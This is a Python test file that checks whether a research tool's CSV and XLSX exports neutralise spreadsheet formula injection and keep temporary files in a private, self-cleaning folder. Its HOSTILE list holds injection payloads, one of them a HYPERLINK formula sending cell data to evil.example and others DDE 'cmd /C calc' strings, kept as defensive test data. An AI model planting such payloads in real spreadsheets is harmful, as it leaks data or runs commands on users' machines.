"""Issue 15 §2 (private temporary folder for XLSX) and §3 (CSV formula injection)."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from exports.tables import evidence_csv, frame_csv, frame_xlsx
from projectfile import private_root, private_tempdir

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "quote": HOSTILE + ["an ordinary quote (ficticio)"],
            "count": [-1, 2, 3, 4, 5, 6, 7],
        }
    )


def _read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_formula_cells_get_a_leading_quote_by_default():
    buf = io.BytesIO()
    evidence_csv(_frame(), buf)
    rows = _read_csv(buf.getvalue())
    quotes = [r[0] for r in rows[1:]]
    for original, written in zip(HOSTILE, quotes):
        assert written == "'" + original
    assert quotes[-1] == "an ordinary quote (ficticio)"
    assert [r[1] for r in rows[1:]][0] == "-1"  # numbers are not text: untouched


def test_csv_raw_keeps_text_untouched():
    buf = io.BytesIO()
    frame_csv(_frame(), buf, raw=True)
    quotes = [r[0] for r in _read_csv(buf.getvalue())[1:]]
    assert quotes[: len(HOSTILE)] == HOSTILE


def test_cli_codebook_csv_neutralised_and_raw_opt_out(db, project_path, tmp_path):
    from cli import main
    from coding import add_code

    add_code(db, "=cmd()", definition="+1 formula-looking definition", coder="ana")
    out = tmp_path / "codebook.csv"
    args = ["export", "codebook", "--project", str(project_path), "--out", str(out)]
    assert main(args) == 0
    text = out.read_text(encoding="utf-8")
    assert "'=cmd()" in text and "'+1 formula" in text
    assert main([*args, "--raw"]) == 0
    text = out.read_text(encoding="utf-8")
    assert "'=cmd()" not in text and "=cmd()" in text


def test_xlsx_cells_are_strings_never_formulas():
    buf = io.BytesIO()
    frame_xlsx(_frame(), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        strings = (
            zf.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in zf.namelist()
            else ""
        )
    assert "<f>" not in sheet  # no formula cell anywhere
    assert "HYPERLINK" in sheet + strings  # the text is there, as text


def test_private_folder_is_0700_and_removed_after_success_and_failure():
    root = private_root()
    assert stat.S_IMODE(os.stat(root).st_mode) == 0o700
    with private_tempdir() as d:
        assert stat.S_IMODE(os.stat(d).st_mode) == 0o700
        (d / "x").write_text("quote")
    assert not d.exists()
    with pytest.raises(RuntimeError):
        with private_tempdir() as d2:
            (d2 / "y").write_text("quote")
            raise RuntimeError("export failed")
    assert not d2.exists()


KILL_XLSX = """
import sys
sys.path.insert(0, {root!r})
import pandas as pd
from exports.tables import frame_xlsx
quote = "Texto ficticio de la entrevista que no debe quedar en /tmp. " * 8
df = pd.DataFrame({{"quote": [quote + str(i) for i in range(400_000)]}})
frame_xlsx(df, sys.argv[1])
"""


def test_killed_xlsx_export_leaves_no_quotes_in_the_system_temp_and_is_cleaned_next_time(
    tmp_path,
):
    system_tmp = Path(tempfile.gettempdir())
    before = {p.name for p in system_tmp.iterdir()}
    script = tmp_path / "xlsx.py"
    script.write_text(KILL_XLSX.format(root=str(ROOT)))
    proc = subprocess.Popen([sys.executable, str(script), str(tmp_path / "out.xlsx")])
    root = private_root()
    mine = None
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        runs = [d for d in root.glob(f"run-{proc.pid}-*") if any(d.iterdir())]
        if runs:
            mine = runs[0]
            break
        time.sleep(0.05)
    assert mine is not None, "the export never wrote a temporary file in the private folder"
    time.sleep(0.3)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    # xlsxwriter's files are in the private folder only, nothing new in the system folder
    new = {p.name for p in system_tmp.iterdir()} - before
    leaked = [n for n in new if n.startswith("tmp") and (system_tmp / n).is_file()]
    assert not leaked
    assert mine.exists()  # a SIGKILL cannot clean up...
    with private_tempdir():
        pass
    assert not mine.exists()  # ...the next export does
